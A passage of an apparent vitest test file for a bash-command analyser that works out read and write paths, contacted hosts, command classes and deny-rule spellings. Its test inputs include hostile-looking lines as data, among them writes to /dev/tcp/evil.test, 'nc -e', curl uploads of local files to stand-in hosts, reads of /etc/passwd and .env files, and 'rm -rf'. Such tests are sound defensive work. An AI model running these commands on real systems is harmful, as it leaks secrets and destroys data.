// What is said of commands besides their class: targets with extents, hosts, spellings, what is at the top.
import { describe, expect, test } from 'vitest';
import type { BashClass, BashFacts } from '../../../src/model/command.ts';
import { analyse, CRASHED } from '../../../src/shell/analyse.ts';
import { context } from './corpora.ts';

const paths = (list: BashFacts['reads'] | BashFacts['writes']) => [
  ...new Set(list.map(({ path, extent }) => (extent === 'deep' || extent === 'glob' ? `${path} (${extent})` : path))),
];

const WRITES: [string, string[]][] = [
  ['echo x > a', ['/p/a']],
  ['echo x >> "a b"', ['/p/a b']],
  ['echo x > /etc/x', ['/etc/x']],
  ['echo x > ~/x', ['/home/u/x']],
  ['echo x > $HOME/x', ['/home/u/x']],
  ['echo x > ./../y', ['/p/./../y']],
  ['f=out; echo x > $f', ['/p/out']],
  ['f=out; echo x > "$f.txt"', ['/p/out.txt']],
  ["f='out a'; touch $f", ['/p/out', '/p/a', '/p/out a']],
  ['echo x > /dev/null', []],
  ['ls 2>&1 >&- 2>/dev/stderr', []],
  ['sed -i s/a/b/ x y', ['/p/x', '/p/y']],
  ['sed -i.bak s/a/b/ d/x', ['/p/d/x', '/p/d/x.bak']],
  ["sed -n 'w out' x", ['/p/out']],
  ["sed 's/a/b/w out' x", ['/p/out']],
  ['cp a b', ['/p/b', '/p/b/a']],
  ['for f in src/*.ts ./b; do sed -i s/a/b/ "$f"; done', ['/p/src/*.ts (glob)', '/p/./b']],
  ['for f in a b c d e f g h i j; do rm "$f"; done', 'abcdefghij'.split('').map((name) => `/p/${name}`)],
  ['cp -r src dst', ['/p/dst (deep)', '/p/dst/src (deep)']],
  ['cp a b d/', ['/p/d/a', '/p/d/b']],
  ['cp -t d a b', ['/p/d/a', '/p/d/b']],
  ['cp -T a b', ['/p/b']],
  ['cp -l a b', ['/p/a', '/p/b', '/p/b/a']],
  ['cp ./*.ts d', ['/p/d', '/p/d/*.ts (glob)']],
  ['cp ./*.ts d/', ['/p/d/*.ts (glob)']],
  ['git mv a.* b', ['/p/a.* (glob)', '/p/b (deep)', '/p/b/a.* (glob)']],
  ['cp --parents a/b d', ['/p/d/a/b']],
  ['cp -r --parents a/../../b d', ['/p/d/a', '/p/d/a/..', '/p/d/a/../../b (deep)']],
  ['mv a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
  ['ln a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
  ['ln -s a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
  ['rm a', ['/p/a']],
  ['rm -rf src', ['/p/src (deep)']],
  ['rm *.log', ['/p/*.log (glob)']],
  ['rm /dev/null', ['/dev/null']],
  ['touch a b', ['/p/a', '/p/b']],
  ['mkdir -p a/b', ['/p/a/b']],
  ['rmdir a', ['/p/a']],
  ['install -m 755 a b', ['/p/b', '/p/b/a']],
  ['truncate -s 0 a', ['/p/a']],
  ['dd if=a of=b bs=1', ['/p/b']],
  ['tee -a a b', ['/p/a', '/p/b']],
  ['chmod -R u+x d', ['/p/d (deep)']],
  ['chmod -x d', ['/p/d']],
  ['chmod u* d', ['/p/u* (glob)', '/p/d']],
  ['chown me d', ['/p/d']],
  ['sort -uo out in', ['/p/out']],
  ['uniq in out', ['/p/out']],
  ['curl -so out https://a.b/c', ['/p/out']],
  ['curl -O https://a.b/c.tgz', ['/p/c.tgz']],
  ['wget -qO out https://a.b/c', ['/p/out']],
  ['curl --hsts - --alt-svc - -c - -D - https://a.b', ['/p/-']],
  ['gofmt -s -w a.go d', ['/p/a.go (deep)', '/p/d (deep)']],
  ['shfmt -w a.sh', ['/p/a.sh (deep)']],
  ['dos2unix a', ['/p/a']],
  ["yq -i '.b=1' a.yaml", ['/p/.b=1', '/p/a.yaml']],
  ['terraform fmt d', ['/p/d (deep)']],
  ['terraform fmt', ['/p/. (deep)']],
  ['openssl rand -out a 16', ['/p/a']],
  ['openssl x509 -in a -out b', ['/p/b']],
  ['openssl rsa -in a -pubout -out b', ['/p/b']],
  ["ssh-keygen -t ed25519 -f a -N ''", ['/p/a', '/p/a.pub']],
  ['pg_dump -f a db', ['/p/a']],
  ['mktemp -p d', ['/p/d/tmp.* (glob)', '/tmp/tmp.XXXXXXXXXX']],
  ['mktemp -d', ['/tmp/tmp.XXXXXXXXXX']],
  ['mktemp /tmp/a.XXXX', ['/tmp/a.XXXX']],
  ['T=$(mktemp) && echo a > "$T"', ['/tmp/tmp.XXXXXXXXXX']],
  ['d=$(mktemp -d); touch $d/a', ['/tmp/tmp.XXXXXXXXXX', '/tmp/tmp.XXXXXXXXXX/a']],
  ['TMP=$(mktemp -d); touch "$TMP/a"', ['/tmp/tmp.XXXXXXXXXX', '/tmp/tmp.XXXXXXXXXX/a']],
  ['echo a > /tmp/a.$$', ['/tmp/a.* (glob)']],
  ['f=/tmp/a.$$; echo a > $f', ['/tmp/a.* (glob)']],
  ['mktemp --tmpdir=d a.XXXX', ['/p/d/a.* (glob)']],
  ['tar xzf a.tgz -C out', ['/p/out (deep)']],
  ['tar xf a.tar', ['/p/. (deep)']],
  ['tar czf a.tgz src', ['/p/a.tgz']],
  ['pigz -z a', ['/p/a', '/p/a.zz']],
  ['unzip a.zip -d out', ['/p/out (deep)']],
  ['rsync -a src/ dst/', ['/p/dst/ (deep)']],
  ['git checkout -- src/a', ['/p/src/a (deep)']],
  ['git checkout-index -f src/a', ['/p/src/a (deep)']],
  ['git checkout-index -fu -- src/a b', ['/p/b (deep)', '/p/src/a (deep)']],
  ['git restore .', ['/p/. (deep)']],
  ["git restore 'src/*.ts'", ['/p/src/ (deep)']],
  ['git rm -r src', ['/p/src (deep)']],
  ['git mv a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
  ['git clean -fd src', ['/p/src (deep)']],
  ['git clean -fd', ['/p/. (deep)']],
  ['git config a.b c', ['/p/.git/config']],
  ['git config a.b --get', ['/p/.git/config']],
  ['git config a.b -f x', ['/p/.git/config']],
  ['git config set --file x a.b c', ['/p/x']],
  ['git config --global a.b c', ['/home/u/.config/git/config', '/home/u/.gitconfig']],
  ['git commit -m x', []],
  ['git add .', []],
  ['find src -name x -delete', ['/p/src (deep)']],
  ['find src -exec rm {} +', ['/p/src (deep)']],
  ['find src -fprint out', ['/p/out']],
  ['cd src && touch a', ['/p/src/a']],
  ['cd src; touch a', ['/p/src/a', '/p/a']],
  ['cd src || exit 1; touch a', ['/p/src/a']],
  ['cd src && cd .. && touch a', ['/p/a']],
  ['(cd src && touch a); touch b', ['/p/src/a', '/p/b']],
  ['cd /p && touch a; touch b', ['/p/a', '/p/b']],
  ['if cd src; then touch a; fi', ['/p/src/a']],
  ['for f in a b; do touch $f; done', ['/p/a', '/p/b']],
  ['f() { touch "$1"; }; f a; f b', ['/p/a', '/p/b']],
  ["bash -c 'touch a'", ['/p/a']],
  ["cd src && bash -c 'touch a'", ['/p/src/a']],
  ['env -C src touch a', ['/p/src/a']],
  ['{ echo a; echo b; } > out', ['/p/out']],
  ['exec > out', ['/p/out']],
  ['cat <<EOF > out\nx\nEOF', ['/p/out']],
  ['ls | tee >(cat > out)', ['/p/out']],
  ['split -l 5 a part-', ['/p/part-* (glob)']],
  ['gzip a', ['/p/a', '/p/a.gz']],
  ['cp a .', ['/p/./a']],
  ['ln -s src l && echo x > l/a', ['/p/l (deep)', '/p/l/src (deep)', '/p/src (deep)', '/p/l/a', '/p/src/a']],
  [
    'ln -s ../src d/l; cd d/l && touch a',
    ['/p/d/l (deep)', '/p/d/l/src (deep)', '/p/d/../src (deep)', '/p/d/l/../src (deep)', '/p/d/l/a', '/p/d/../src/a'],
  ],
  ['mv l m && rm m/a', ['/p/l (deep)', '/p/m (deep)', '/p/m/l (deep)', '/p/m/a', '/p/l/a']],
];

const UNKNOWN_TARGET = [
  'echo x > $y',
  'cd $d && touch a',
  'cd - && touch a',
  'touch $(ls)',
  'sed -i s/a/b/ $(git ls-files)',
  'ls | xargs rm',
  'rm "$1"',
  'cp a "$x"',
  'mv $x y',
  'git restore :/',
  'patch -p1 < x',
  'git apply x',
  'git stash',
  'git switch x',
  'git pull',
  'cd "$(ls)" && git commit -m x',
];

/** Whatever else they may write. */
const NAMED_TARGETS: [string, string[]][] = [
  ['patch a < b', ['/p/a', '/p/a.orig', '/p/a.rej']],
  ['scp h:a b', ['/p/b (deep)']],
  ['docker cp web:/a b', ['/p/b (deep)']],
  ['aws s3 cp s3://b/c a', ['/p/a (deep)']],
  ['gcc -fplugin=x a.c -o a', ['/p/a']],
  ['7z x a.7z -od', ['/p/d (deep)']],
  ['pandoc a.md -o a.html', ['/p/a.html']],
  ['xargs touch <<< a', ['/p/a']],
  ['gsutil cp gs://b/c a', ['/p/a (deep)']],
  ['kubectl cp web:/a b', ['/p/b (deep)']],
];

describe('write targets', () => {
  test.each(NAMED_TARGETS)('%s is not understood, and its writes are known', (command, expected) => {
    const facts = analyse(command, context);
    expect(facts.class).toBe('unknown');
    expect(paths(facts.writes).sort()).toEqual([...expected].sort());
  });

  test.each(WRITES)('%s', (command, expected) => {
    const facts = analyse(command, context);
    expect(facts.uncertain).toEqual([]);
    expect(paths(facts.writes).sort()).toEqual([...expected].sort());
    for (const w of facts.writes) {
      expect(facts.commands[w.command]).toBeDefined();
      expect(facts.commands[w.command]!.class).toBe('writes');
    }
  });

  test.each(UNKNOWN_TARGET)('%s may write anywhere', (command) => {
    const facts = analyse(command, context);
    expect(facts.class).toBe('unknown');
    expect(facts.uncertain.length).toBeGreaterThan(0);
  });
});

describe('reads', () => {
  test.each<[string, string[]]>([
    ['cat a b', ['/p/a', '/p/b']],
    ['cat < a', ['/p/a']],
    ['grep -rn x src', ['/p/src (deep)']],
    ['grep x a', ['/p/a']],
    ['rg x', ['/p/. (deep)']],
    ['head -5 *.ts', ['/p/*.ts (glob)']],
    ['find src -exec cat {} +', ['/p/src', '/p/src (deep)']],
    ['diff a b', ['/p/a', '/p/b']],
    ['jq .x a.json', ['/p/a.json']],
    ['cd src && cat a', ['/p/src/a']],
    ['source a', ['/p/a']],
    ['python3 a.py', ['/p/a.py']],
    ['curl file:///etc/passwd', ['/etc/passwd']],
    ['git blame a', ['/p/a']],
    ['tar tf a.tar', ['/p/a.tar']],
    // What has another name afterwards can be read by that.
    ['cat <> a', ['/p/a']],
    ['cat 3<> a <&3', ['/p/a']],
    ['git diff /dev/null a', ['/p/a (deep)']],
    ['git diff ../x a', ['/p/../x (deep)', '/p/a (deep)']],
    ['git diff a', ['/p/a']],
    ['git diff HEAD:a b', ['/p/a', '/p/b']],
    ['git show HEAD:a', ['/p/a']],
    ['git show HEAD~2:./d/a', ['/p/./d/a']],
    ['git show $(git rev-parse HEAD):a', ['/p/a']],
    ['for f in src/* .env; do cat "$f"; done', ['/p/src/* (glob)', '/p/.env']],
    ['for f in src/*; do cat "lib/$f.md"; done', ['/p/lib/src/*.md (glob)']],
    [
      'for f in a b c d e f g h i .env; do head $f; done',
      'abcdefghi'
        .split('')
        .map((name) => `/p/${name}`)
        .concat('/p/.env'),
    ],
    ['select f in *.env; do cat "$f"; done', ['/p/*.env (glob)']],
    ['f=.env; [ -n "$1" ] && f=$1; cat "$f"', ['/p/.env']],
    ['cat "${f:-.env}"', ['/p/.env']],
    ['f() { cat "$1"; }; for x in src/*; do f "$x"; done', ['/p/src/* (glob)']],
    ['find src -type f | grep -v x | while read -r f; do cat "$f"; done', ['/p/src', '/p/src (deep)']],
    ['while read -r f; do cat "$f"; done < <(find src)', ['/p/src (deep)', '/p/src']],
    ['find . -name "*.env" -print0 | xargs -0 cat', ['/p/.', '/p/. (deep)']],
    ['find a -exec sh -c \'cat "$1"\' _ {} \\;', ['/p/a (deep)', '/p/a']],
    ['cat $(find . -name "*.env")', ['/p/.', '/p/. (deep)']],
    ['f=$(ls | head -1); cat "$f"', ['/p/.', '/p/* (glob)']],
    ['ls -a src | xargs -I% cat src/%', ['/p/src', '/p/src/src', '/p/src/* (glob)', '/p/src/.* (glob)']],
    ['ls *.md | xargs cat', ['/p/*.md (glob)']],
    ['ls -R src | xargs cat', ['/p/src', '/p/src (deep)']],
    ['fd -e env | xargs cat', ['/p/.', '/p/. (deep)']],
    ['rg --files src | xargs cat', ['/p/src', '/p/src (deep)']],
    ['echo ./*.env | xargs cat', ['/p/./*.env', '/p/./*.env (glob)']],
    ['xargs cat <<< "$(ls)"', ['/p/.', '/p/* (glob)']],
    ['git ls-files src | xargs cat', ['/p/src (deep)']],
    ["cat $(git ls-files '*.ts')", ['/p/. (deep)']],
    ['git status --short | cut -c4- | xargs cat', ['/p/. (deep)']],
    ['git diff --name-only -- src | xargs cat', ['/p/src (deep)']],
    ['find . | wc -l', ['/p/.']],
    ['git show "$rev:d/a"', ['/p/d/a']],
    ['git show -- a', ['/p/a']],
    ["git show ':/a b'", ['/p/:/a b']],
    ['git cat-file -p :2:a', ['/p/a']],
    ['git log -p -- a', ['/p/a']],
    ['git log -- a', []],
    ['git log -L1,5:a', ['/p/a']],
    ['git archive HEAD a', ['/p/a']],
    ['git diff --stat a', []],
    ['git show --name-only HEAD~1 a', []],
    ['git show --stat -p @{1} a', ['/p/a']],
    ['git cat-file -e HEAD:a', []],
    ['git format-patch -1 --stdout -- a', ['/p/a']],
    ['tar cf - a -C d b', ['/p/a (deep)', '/p/d (deep)']],
    ['tar cf - -C d b', ['/p/d (deep)']],
    ['tar cf - --add-file=a', ['/p/a']],
    ['bsdtar cf - @a.tar', ['/p/@a.tar (deep)', '/p/a.tar']],
    ['bsdtar cf - -C d @a.tar', ['/p/a.tar', '/p/d (deep)']],
    ['awk \'{while ((getline l < "a") > 0) print l}\' b', ['/p/a', '/p/b']],
    ['awk \'$1 < "a"\' b', ['/p/b']],
    ['awk -f a b', ['/p/a', '/p/b']],
    ['openssl enc -base64 -in a', ['/p/a']],
    ['openssl enc -aes-256-cbc -in a', ['/p/a']],
    ['ed a', ['/p/a']],
    ["ex -sc '%p|q' a", ['/p/%p|q', '/p/a']],
    ['zless a', ['/p/a', '/p/a.gz', '/p/a.z', '/p/a-z', '/p/a.Z']],
    ['zless a.gz', ['/p/a.gz']],
    ['perl -ne print a b', ['/p/a', '/p/b']],
    ['perl -i.bak -pe x a', ['/p/a']],
    ['perl -e x a', []],
    ['ruby -pe x a', ['/p/a']],
    ['python3 -m json.tool a', ['/p/a']],
    ['python3 -m http.server a', ['/p/. (deep)']],
    ['aws s3 cp a s3://b/c', ['/p/a (deep)']],
    ['aws s3 cp s3://b/c a', []],
    ['gsutil cp a gs://b/c', ['/p/a (deep)']],
    ['docker cp a web:/b', ['/p/a (deep)']],
    ['docker cp web:/b a', []],
    ['ag foo', ['/p/. (deep)']],
    ['ag -i foo src .env', ['/p/src (deep)', '/p/.env (deep)']],
    ['ag -g foo d', ['/p/d']],
    ['kubectl get -f a.yaml,.env -f -', ['/p/a.yaml,.env', '/p/a.yaml', '/p/.env']],
    ["kubectl describe -f 'd/*.yaml'", ['/p/d/*.yaml', '/p/d/*.yaml (glob)']],
    ['kubectl get -f https://a.invalid/b.yaml', []],
    ['kubectl cp a web:/b -n c', ['/p/a (deep)']],
    ['od -s a', ['/p/a']],
    ['od -e a', ['/p/a']],
    ['hexdump -s 4 a', ['/p/a']],
    ['hd -f a b', ['/p/a', '/p/b']],
    ['jq . a --args b', ['/p/a']],
    ['jq --args . a', []],
    ['yq . .a.yaml', ['/p/.a.yaml']],
    ['yq .a.yaml', ['/p/.a.yaml']],
    ['xmllint file:///p/a', ['/p/a']],
    ['curl file:/p/a', ['/p/a']],
    ["curl 'file:///p/%61?b#c'", ['/p/a']],
    ["curl 'file:///p/{a,b}/c'", ['/p/{a,b}/c', '/p/ (deep)']],
    // What is sent is read, whatever else happens.
    ['curl -d @a https://h.test', ['/p/a']],
    ['curl -T a https://h.test', ['/p/a']],
    ["curl -F 'x=@a,b;type=c' https://h.test", ['/p/a', '/p/a,b', '/p/b']],
    ["curl -F 'x=<a' https://h.test", ['/p/a']],
    ['curl --data-urlencode x@a https://h.test', ['/p/a']],
    ['curl -H @a https://h.test', ['/p/a']],
    ['curl --etag-compare a https://h.test', ['/p/a']],
    ['curl -K a', ['/p/a']],
    ['curl -T - https://h.test', []],
    ['wget --post-file=a https://h.test', ['/p/a']],
    ['scp -i k a b h.test:c', ['/p/a (deep)', '/p/b (deep)']],
    ['scp h.test:c a', []],
    ['gh api x --input a', ['/p/a']],
    ['gh api x -F b=@a', ['/p/a']],
    ['aws ec2 describe-instances --filters file://a', ['/p/a']],
    ['aws ec2 describe-instances --filters Name=x,Values@=file://a', ['/p/a']],
    ['az group show -n @a', ['/p/a']],
    ['http POST h.test x@a y=@b z:=@c', ['/p/a', '/p/b', '/p/c']],
    ['zipinfo -1 a.zip b', ['/p/a.zip']],
    ['unzip -p a b', ['/p/a', '/p/a.zip', '/p/a.ZIP']],
    ["unzip -l 's*.zip'", ['/p/s*.zip (glob)']],
    ['look x a', ['/p/a']],
    ['last -n 3 -f a root', ['/p/a']],
    ['patch --dry-run a b.diff', ['/p/a', '/p/b.diff']],
    ['helm show values ./a', ['/p/./a']],
    ['helm show values oci://h.test/a', []],
    // An ending that is left out is tried.
    ['zcat a', ['/p/a', '/p/a.gz', '/p/a.z', '/p/a-z', '/p/a.Z']],
    ['gzip -dc a', ['/p/a', '/p/a.gz', '/p/a.z', '/p/a-z', '/p/a.Z']],
    ['zgrep x a', ['/p/a', '/p/a.gz', '/p/a.z', '/p/a-z', '/p/a.Z']],
    ['gunzip -c a.gz', ['/p/a.gz']],
    ['bzcat a', ['/p/a']],
    ['zdiff a.gz', ['/p/a.gz', '/p/a']],
    ['bzcmp a.bz2', ['/p/a.bz2', '/p/a']],
    ['zdiff a.gz b.gz', ['/p/a.gz', '/p/b.gz']],
    ['tar -df a.tar b', ['/p/a.tar', '/p/b (deep)']],
    ['tar -df a.tar', ['/p/a.tar', '/p/. (deep)']],
    ['tar df a.tar -C d b', ['/p/a.tar', '/p/d (deep)']],
    ['git blame a HEAD', ['/p/a']],
    ['git blame v1.0 a', ['/p/v1.0', '/p/a']],
    ['git blame -L 1,5 HEAD -- a', ['/p/a']],
    ['git verify-pack -v a.idx', ['/p/a.idx']],
    ['git cat-file --batch <<< HEAD:a', ['/p/a']],
    ['echo HEAD:a | git cat-file --batch', ['/p/a']],
    ['echo a | git hash-object --stdin-paths', ['/p/a']],
    ['git add -f .env', ['/p/.env (deep)']],
    ['git stage --force a b', ['/p/a (deep)', '/p/b (deep)']],
    ['git add -f', ['/p/. (deep)']],
    ['git add -nf .env', []],
    ['git add -A a', []],
    ['git update-index --add .env', ['/p/.env']],
    ['git update-index --refresh', []],
    ['git apply --check -p0 <<< "--- d/a"', ['/p/d/a']],
    ['git apply --stat <<< "+++ b/d/a"', ['/p/d/a']],
    ['patch --dry-run <<< "--- d/a"', ['/p/d/a', '/p/a']],
    ['patch --dry-run -p2 <<< "--- x/y/a"', ['/p/a']],
    ['terraform fmt -check -diff a.tf', ['/p/a.tf']],
    ['terraform fmt -check', ['/p/.']],
    ['clang-format -style=file:a b.c', ['/p/a', '/p/b.c']],
    ['openssl pkcs12 -in a -passin file:b -nokeys', ['/p/a', '/p/b']],
    ['curl -E a.pem:x https://h.test', ['/p/a.pem', '/p/a.pem:x']],
    ["curl --cert 'a\\:b:x' https://h.test", ['/p/a:b', '/p/a:b:x']],
    ['rsync -n a b', ['/p/a (deep)', '/p/b (deep)']],
    ['rpm -qpl a.rpm', ['/p/a.rpm']],
    ['rpm -qi a', []],
    ['pkg-config --cflags ./a.pc b', ['/p/./a.pc']],
    ['users a', ['/p/a']],
    ['who am i', []],
    ['docker compose -f a.yml config', ['/p/a.yml', '/p/.env']],
    ['docker compose -f a.yml --env-file b config', ['/p/a.yml', '/p/b']],
    ['docker compose -f a.yml config --services', ['/p/a.yml']],
    ['strings a', ['/p/a']],
    // What a command certainly prints is a word like any other.
    ['cat $(echo a)', ['/p/a']],
    ['cat "$(printf %s)$(printf d/)a"', ['/p/d/a']],
    ["x=$(echo 'd/a'); cat $x", ['/p/d/a']],
    ['cat $(echo $"a") $(echo *) $(echo -n b) $(echo c > /dev/null)', ['/p/* (glob)', '/p/a', '/p/b', '/p/c']],
    ['echo a b | xargs cat', ['/p/a', '/p/b', '/p/a b']],
    ['xargs -n 1 head -3 <<< d/a', ['/p/d/a']],
    ["printf 'a\\0' | xargs -0 -I{} cat x/{}", ['/p/x/a']],
    ['echo a | xargs -a b cat', ['/p/b']],
    ["printf 'a\\0' | sort --files0-from=-", ['/p/a']],
  ])('%s', (command, expected) => {
    expect(paths(analyse(command, context).reads).sort()).toEqual([...expected].sort());
  });

  test.each<[string, boolean]>([
    ['grep x a', true],
    ['grep -n "$x" a', true],
    ['grep -d skip x a', false],
    // These are grep itself.
    ['command grep x a', false],
    ['echo a | xargs grep x a', false],
    ['/usr/bin/grep x a', false],
    ['egrep x a', false],
    ['diff a b', true],
    ['cat a', false],
  ])('%s reads the contents of a folder of that name: %s', (command, expected) => {
    expect(analyse(command, context).reads[0]).toMatchObject({ path: '/p/a', extent: expected ? 'within' : 'one' });
  });

  test('listing names is not reading contents', () => {
    expect(analyse('ls src', context).reads).toEqual([{ path: '/p/src', extent: 'one', via: 'ls', command: 0, what: 'names' }]);
    expect(analyse('cat src/a', context).reads[0]!.what).toBeUndefined();
  });
});

describe('network', () => {
  test.each<[string, string[]]>([
    ['curl -s https://API.example.com./x', ['api.example.com']],
    ['curl example.com', ['example.com']],
    ['curl u:p@example.com', ['example.com']],
    ['curl u:p@example.com:80/a:b@c', ['example.com']],
    ['curl example.com:80@evil.test', ['evil.test']],
    ['curl "https://u@example.com:80@evil.test:443?x@y"', ['evil.test']],
    ['curl "[::1]:80"', ['[::1]']],
    ['wget u:p@example.com/x', ['example.com']],
    ['curl http://u:p@h:8080/x', ['h']],
    ['git push', []],
    ['git fetch origin', []],
    ['git clone git@github.com:a/b.git', ['github.com']],
    ['git ls-remote https://github.com/a/b', ['github.com']],
    ['curl --connect-to ::b.test:443 https://a.test/', ['a.test', 'b.test']],
    ["curl --connect-to 'a.test:443:[::1]:8443' https://a.test/", ['a.test', '[::1]']],
    ['curl --connect-to a.test:443:: https://a.test/', ['a.test']],
    ['curl --resolve a.test:443:192.0.2.1,192.0.2.2 https://a.test/', ['a.test', '192.0.2.1', '192.0.2.2']],
    ['curl --resolve -a.test:443 https://a.test/', ['a.test']],
    ['curl --dns-servers 192.0.2.1:53,192.0.2.2 https://a.test/', ['a.test', '192.0.2.1', '192.0.2.2']],
    ['dig @b.test a.test', ['b.test', 'a.test']],
    ['dig @localhost a.test', ['localhost', 'a.test']],
    ['npm install', []],
    ['gh api https://a.invalid/x', ['a.invalid']],
    ['gh api --hostname a.invalid repos/b/c', ['a.invalid']],
    ['gh api repos/b/c', []],
    ['gh pr list', []],
    ['echo x > /dev/tcp/evil.test/80', ['evil.test']],
    ['ssh h ls', ['h']],
    ['ssh -p 22 -J a.test,b@b.test me@h.test ls', ['h.test', 'a.test', 'b.test']],
    ['ssh ssh://me@h.test:22', ['h.test']],
    ['scp a me@h.test:b', ['h.test']],
    ['scp g.test:a h.test:b', ['g.test', 'h.test']],
    ['sftp -P 22 me@h.test', ['h.test']],
    ['ssh-copy-id -i k me@h.test', ['h.test']],
    ['telnet h 25', ['h']],
    ['nc h 80', ['h']],
    ['nc -z -G 2 h 80', ['h']],
    ['nc -e x h.test 80', ['x', 'h.test']],
    ['nc -z localhost 80', ['localhost']],
    ['ping -c 1 h', ['h']],
    ['ping6 ::1', ['::1']],
    ['traceroute h', ['h']],
    ['host h.test ns.test', ['h.test', 'ns.test']],
    ['nslookup h', ['h']],
    ['dig h.test MX', ['h.test']],
    ['whois -h w.test h.test', ['h.test', 'w.test']],
    ['socat TCP-LISTEN:80,fork TCP:h.test:80', ['h.test']],
    ['socat OPENSSL:h.test:443 -', ['h.test']],
    ["curl 'http://[::1]:3000/a'", ['[::1]']],
    ['curl -d https://x.test https://h.test', ['h.test']],
    ['psql -l postgres://u:p@h.test/d', ['h.test']],
    ['docker pull h.test/a/b:1', ['h.test']],
    ['docker pull localhost:5000/a', ['localhost']],
    ['docker pull a/b', []],
    ['docker login h.test', ['h.test']],
    ['gh pr list -R h.test/a/b', ['h.test']],
    ['gh pr list -R a/b', []],
    ['gh pr view https://h.test/a/b/pull/1', ['h.test']],
    ['pdfinfo https://h.test/a.pdf', ['h.test']],
    ['pdftotext https://h.test/a.pdf -', ['h.test']],
    // An address among the words of what may do anything.
    ['npm install --registry https://h.test a', ['h.test']],
    ['npm run a -- --url=https://h.test/$x', ['h.test']],
    ['pip install git+https://h.test/a', ['h.test']],
    ['mongosh mongodb+srv://u:p@h.test/d', ['h.test']],
    ['frobnicate https://h.test', ['h.test']],
    ['mvn -Da=https://h.test b', ['h.test']],
    ['aws s3 rm s3://b/c', []],
    ['xmllint http://h.test/a.xml', ['h.test']],
    ["awk '{print}' /inet/tcp/0/h.test/80", ['h.test']],
    ["gawk '{print}' a.txt /inet6/udp/0/::1/53", ['::1']],
    ['kubectl get --filename=https://a.invalid/b.yaml,c.yaml', ['a.invalid']],
    ['kubectl rollout status -f http://a.invalid/b.yaml', ['a.invalid']],
    ['kubectl apply --dry-run=client -f https://a.invalid/b.yaml', ['a.invalid']],
    ['kubectl -f https://a.invalid/b.yaml get', ['a.invalid']],
  ])('%s', (command, hosts) => {
    const facts = analyse(command, context);
    expect(facts.network).toBe(true);
    expect(facts.hosts).toEqual(hosts);
  });

  test('local commands use no network', () => {
    expect(analyse('ls; git status; npm test', context).network).toBe(false);
  });
});

describe('classes', () => {
  test.each<[string, BashClass]>([
    ['npm test', 'runs'],
    ['npm run build && ls', 'runs'],
    ['make', 'runs'],
    ['python3 a.py', 'runs'],
    ['./gradlew build', 'runs'],
    ['/p/node_modules/.bin/vitest', 'runs'],
    ['pytest -q > out', 'runs'],
    ['pytest; frobnicate', 'unknown'],
    ['ls; rm a', 'writes'],
    ['', 'read-only'],
    ['   \n', 'read-only'],
    ['# only a comment', 'read-only'],
    ['git status', 'read-only'],
    ['cd sub && git status', 'unknown'],
    ['cd / && git status', 'read-only'],
  ])('%s is %s', (command, cls) => {
    expect(analyse(command, context).class).toBe(cls);
  });
});

describe('commands', () => {
  const parts = (command: string) => analyse(command, context).commands.map((c) => [c.text, c.top] as const);

  test.each<[string, [string, boolean][]]>([
    [
      'ls && npm test',
      [
        ['ls', true],
        ['npm test', true],
      ],
    ],
    ['timeout 5 npm test', [['npm test', true]]],
    ['nohup nice -n 5 npm test', [['npm test', true]]],
    ['time -p npm test', [['npm test', true]]],
    ['xargs npm test', [['npm test …', true]]],
    ['xargs -n1 npm test', [['npm test …', false]]],
    ['env A=1 npm test', [['npm test', false]]],
    ['sudo npm test', [['npm test', false]]],
    ['LC_ALL=C npm test', [['npm test', true]]],
    ['FOO=1 npm test', [['npm test', false]]],
    [
      'echo $(npm test)',
      [
        ['echo $(npm test)', true],
        ['npm test', false],
      ],
    ],
    [
      "bash -c 'npm test'",
      [
        ["bash -c 'npm test'", true],
        ['npm test', false],
      ],
    ],
    [
      'f() { npm test; }; f',
      [
        ['f', true],
        ['npm test', false],
      ],
    ],
    [
      'find . -exec rm {} \\;',
      [
        ["find . -exec rm {} ';'", true],
        ['rm {}', false],
      ],
    ],
    [
      'if true; then npm test; fi',
      [
        ['true', true],
        ['npm test', true],
      ],
    ],
    ['(npm test)', [['npm test', true]]],
    ['echo \'a b\' "c"', [["echo 'a b' c", true]]],
    ["git commit -m 'it''s'", [['git commit -m its', true]]],
    ['rm *.log', [['rm *.log', true]]],
    ["rm '*.log'", [["rm '*.log'", true]]],
    ['r"m" -rf src', [['rm -rf src', true]]],
    ['rm $x', [['rm $x', true]]],
    ['x=rm; $x src', [['rm src', true]]],
    ['x=5', []],
  ])('%s', (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  test.each<[string, string[]]>([
    ['/bin/rm x', ['rm x']],
    ["rm 'a b'", ['rm a b']],
    ['timeout 5 rm x', ['timeout 5 rm x']],
    ['FOO=1 rm x', ['FOO=1 rm x']],
    ['env A=1 rm x', ['env A=1 rm x']],
    ["sudo /bin/rm 'a b'", ["sudo /bin/rm 'a b'", 'rm a b', "rm 'a b'"]],
  ])('deny rules also see %s as', (command, expected) => {
    const [part] = analyse(command, context).commands;
    for (const e of expected) expect(part!.spellings).toContain(e);
    expect(part!.spellings).not.toContain(part!.text);
    expect(new Set(part!.spellings).size).toBe(part!.spellings.length);
  });

  test('unknown words are null', () => {
    expect(analyse('rm -rf $x "a$y" b', context).commands[0]!.argv).toEqual(['rm', '-rf', null, null, 'b']);
    expect(analyse('ls | xargs rm -f', context).commands[1]!.argv).toEqual(['rm', '-f', null]);
    expect(analyse('for f in a b; do rm $f; done', context).commands[0]!.argv).toEqual(['rm', null]);
  });

  test('reasons point at their words', () => {
    const command = 'ls && sort -o out in';
    const [why] = analyse(command, context).commands[1]!.why;
    expect(why!.text).toBe('sort -o writes to a file');
    expect(command.slice(why!.pos, why!.end)).toBe('out');
  });
});

describe('a program that another one starts', () => {
  test.each([
    ['poetry run -v rm x', 'rm x'],
    ['uv run --with a /bin/rm x', 'rm x'],
    ['uv run --unheard y rm x', 'rm x'],
    ['bundle exec rm x', 'rm x'],
    ['npx rm x', 'rm x'],
    ['npm exec -- rm x', 'rm x'],
    ['git bisect run rm x', 'rm x'],
    ["docker exec -it web 'r'm x", 'rm x'],
    ['docker compose exec web rm x', 'rm x'],
    ['hub push', 'git push'],
    ['HUB push', 'git push'],
    ['./gradlew publish', 'gradle publish'],
    ['grm x', 'rm x'],
    ['nodejs -e x', 'node -e x'],
    ['git push origin HEAD:main', 'git push origin main'],
    ['git push -q origin x +refs/heads/main', 'git push origin main'],
